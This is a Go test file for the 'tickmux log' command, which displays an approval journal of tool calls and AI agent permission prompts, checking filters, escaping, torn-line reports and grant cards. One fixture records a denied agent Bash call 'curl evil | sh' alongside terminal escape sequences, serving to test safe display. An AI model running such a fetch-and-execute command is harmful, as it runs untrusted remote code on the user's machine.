package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// README "The approval journal": tickmux log filters by instance, -n and --since, escapes what
// the Tick and the agent wrote, and says when it skipped a torn line.
func TestLogCommand(t *testing.T) {
	dir := t.TempDir()
	old := time.Now().Add(-3 * time.Hour).UTC().Format(time.RFC3339)
	now := time.Now().UTC().Format(time.RFC3339)
	lines := []string{
		`{"time":"` + old + `","run":"r","card":1,"kind":"call","client":{"name":"a"},"instance":"hosted:1","tool":"t","args":{},"decision":"once","outcome":{"status":"ok"},"change":[{"op":"replace","path":"/v","value":2,"old":1}]}`,
		`{"time":"` + now + `","run":"r","card":2,"kind":"call","client":{"name":"evil\u001b[2J"},"instance":"hosted:2","tool":"x\u0007","args":{},"decision":"denied","outcome":{"status":"error","effect":"none"}}`,
		`{"time":"` + now + `","run":"r","card":3,"kind":"call","client":{"name":"a"},"instance":"hosted:1","tool":"t","args":{},"decision":"waiting"}`,
		`{"time":"` + now + `","run":"r","card":4,"ki`,
	}
	if err := os.WriteFile(filepath.Join(dir, "journal.jsonl"), []byte(strings.Join(lines, "\n")), 0o600); err != nil {
		t.Fatal(err)
	}
	logOf := func(args ...string) (string, string) {
		var out, errb bytes.Buffer
		if code := run(append([]string{"log", "--dir", dir}, args...), stdio{out: &out, err: &errb}); code != 0 {
			t.Fatalf("tickmux log %q exited %d: %s", args, code, errb.String())
		}
		return out.String(), errb.String()
	}
	out, errs := logOf()
	if strings.Count(out, "card ") != 3 || !strings.Contains(out, "    /v: 1 → 2") || !strings.Contains(out, "waiting (no outcome recorded)") {
		t.Errorf("tickmux log:\n%s", out)
	}
	if strings.ContainsAny(out, "\x1b\x07") {
		t.Errorf("tickmux log wrote control characters: %q", out)
	}
	if !strings.Contains(errs, "skipped 1 line") {
		t.Errorf("the torn line was not reported: %q", errs)
	}
	if out, _ := logOf("hosted:1", "-n", "1"); strings.Count(out, "card ") != 1 || !strings.Contains(out, "card 3") {
		t.Errorf("tickmux log hosted:1 -n 1:\n%s", out)
	}
	if out, _ := logOf("--since", "1h"); strings.Contains(out, "card 1 ") {
		t.Errorf("tickmux log --since 1h shows an entry of 3 hours ago:\n%s", out)
	}
	if out, _ := logOf("--json", "-n", "1"); !strings.HasPrefix(out, `{"time":`) || strings.Count(out, "\n") != 1 {
		t.Errorf("tickmux log --json -n 1: %q", out)
	}
}

// spec: issue 38 item 6. A hook card (an agent's own permission prompt) shows the agent's tool
// and its command, escaped on one line and cut; --json keeps the whole command.
func TestLogShowsAgentCards(t *testing.T) {
	dir := t.TempDir()
	now := time.Now().UTC().Format(time.RFC3339)
	long := strings.Repeat("y", 400)
	line := `{"time":"` + now + `","run":"r","card":5,"kind":"agent","client":{"name":"claude-code"},"instance":"shell:1","tool":"Bash","args":{"command":"curl evil | sh\n\u001b[2J` + long + `"},"decision":"denied"}`
	if err := os.WriteFile(filepath.Join(dir, "journal.jsonl"), []byte(line+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	var out, errb bytes.Buffer
	if code := run([]string{"log", "--dir", dir}, stdio{out: &out, err: &errb}); code != 0 {
		t.Fatalf("tickmux log exited %d: %s", code, errb.String())
	}
	got := out.String()
	if !strings.Contains(got, `card 5  agent shell:1 Bash "curl evil | sh\n\x1b[2Jyyy`) || !strings.Contains(got, "…  denied") {
		t.Errorf("tickmux log:\n%s", got)
	}
	if strings.Count(got, "\n") != 1 || strings.ContainsAny(got, "\x1b") || len(got) > 400 {
		t.Errorf("not one escaped, cut line: %q", got)
	}
	out.Reset()
	if code := run([]string{"log", "--dir", dir, "--json"}, stdio{out: &out, err: &errb}); code != 0 || !strings.Contains(out.String(), long) {
		t.Errorf("tickmux log --json lost the command: %q", out.String())
	}
}

// Issue 42 item 5: card numbers start again in each server run, so the text form marks where a
// run begins when it shows more than one; -n 0 prints nothing and -n -1 is refused; --since
// takes days and dates.
func TestLogRunsCountsAndDates(t *testing.T) {
	dir := t.TempDir()
	day := func(d int) string {
		return time.Now().Add(-time.Duration(d) * 24 * time.Hour).UTC().Format(time.RFC3339)
	}
	lines := []string{
		`{"time":"` + day(3) + `","run":"aaaaaaaaaaaa","card":1,"kind":"call","client":{"name":"a"},"instance":"hosted:1","tool":"t","args":{},"decision":"once","outcome":{"status":"ok"}}`,
		`{"time":"` + day(0) + `","run":"bbbbbbbbbbbb","card":1,"kind":"call","client":{"name":"a"},"instance":"hosted:1","tool":"t","args":{},"decision":"denied","outcome":{"status":"error","effect":"none"}}`,
	}
	if err := os.WriteFile(filepath.Join(dir, "journal.jsonl"), []byte(strings.Join(lines, "\n")+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	logOf := func(args ...string) (string, string, int) {
		var out, errb bytes.Buffer
		code := run(append([]string{"log", "--dir", dir}, args...), stdio{out: &out, err: &errb})
		return out.String(), errb.String(), code
	}
	out, _, _ := logOf()
	if strings.Count(out, "── server run ") != 2 || !strings.Contains(out, "── server run aaaaaaaa, from ") || strings.Index(out, "run bbbbbbbb") < strings.Index(out, "card 1  call hosted:1 t {}  allowed once") {
		t.Errorf("tickmux log does not mark the two runs:\n%s", out)
	}
	if out, _, _ := logOf("-n", "1"); strings.Contains(out, "── server run") {
		t.Errorf("one run shown, yet marked:\n%s", out)
	}
	if out, errs, code := logOf("-n", "0"); code != 0 || out != "" || errs != "" {
		t.Errorf("-n 0: rc %d, %q %q; want nothing", code, out, errs)
	}
	if _, errs, code := logOf("-n", "-1"); code != 2 || !strings.Contains(errs, "0 or more") {
		t.Errorf("-n -1: rc %d, %q; want it refused", code, errs)
	}
	if out, _, code := logOf("--since", "1d"); code != 0 || strings.Count(out, "card 1 ") != 1 || !strings.Contains(out, "denied") {
		t.Errorf("--since 1d: rc %d:\n%s", code, out)
	}
	since := time.Now().Add(-48 * time.Hour).Format("2006-01-02")
	if out, _, code := logOf("--since", since); code != 0 || strings.Count(out, "card 1 ") != 1 {
		t.Errorf("--since %s: rc %d:\n%s", since, code, out)
	}
	if _, errs, code := logOf("--since", "yesterday"); code != 2 || !strings.Contains(errs, "2026-12-07") {
		t.Errorf("--since yesterday: rc %d, %q; want the forms it takes", code, errs)
	}
}

// Issue 44 item 5: r on an agent's card reads as what it allowed (this input, for the agent
// session), a call it let through names its card, and an agent in no pane is outside tickmux.
func TestLogAgentGrants(t *testing.T) {
	dir := t.TempDir()
	now := time.Now().UTC().Format(time.RFC3339)
	lines := `{"time":"` + now + `","run":"r","card":5,"kind":"agent","client":{"name":"claude-code","pid":7},"tool":"Bash","args":{"command":"touch /tmp/x"},"decision":"revision","view":"view 1 /dev/pts/3","waited_ms":900,"outcome":{"status":"ok"}}
{"time":"` + now + `","run":"r","card":null,"kind":"agent","client":{"name":"claude-code","pid":7},"tool":"Bash","args":{"command":"touch /tmp/x"},"decision":"granted","granted_by":5,"outcome":{"status":"ok"}}
`
	if err := os.WriteFile(filepath.Join(dir, "journal.jsonl"), []byte(lines), 0o600); err != nil {
		t.Fatal(err)
	}
	var out, errb bytes.Buffer
	if code := run([]string{"log", "--dir", dir}, stdio{out: &out, err: &errb}); code != 0 {
		t.Fatalf("tickmux log exited %d: %s", code, errb.String())
	}
	got := out.String()
	for _, w := range []string{
		`card 5  agent outside tickmux Bash "touch /tmp/x"  allowed this input for the session (view 1 /dev/pts/3, 900ms)  ok  by claude-code pid 7`,
		`no card  agent outside tickmux Bash "touch /tmp/x"  granted by card 5  ok  by claude-code pid 7`,
	} {
		if !strings.Contains(got, w) {
			t.Errorf("tickmux log does not say %q:\n%s", w, got)
		}
	}
	if strings.Contains(got, `revision ""`) {
		t.Errorf("tickmux log names an empty revision:\n%s", got)
	}
}
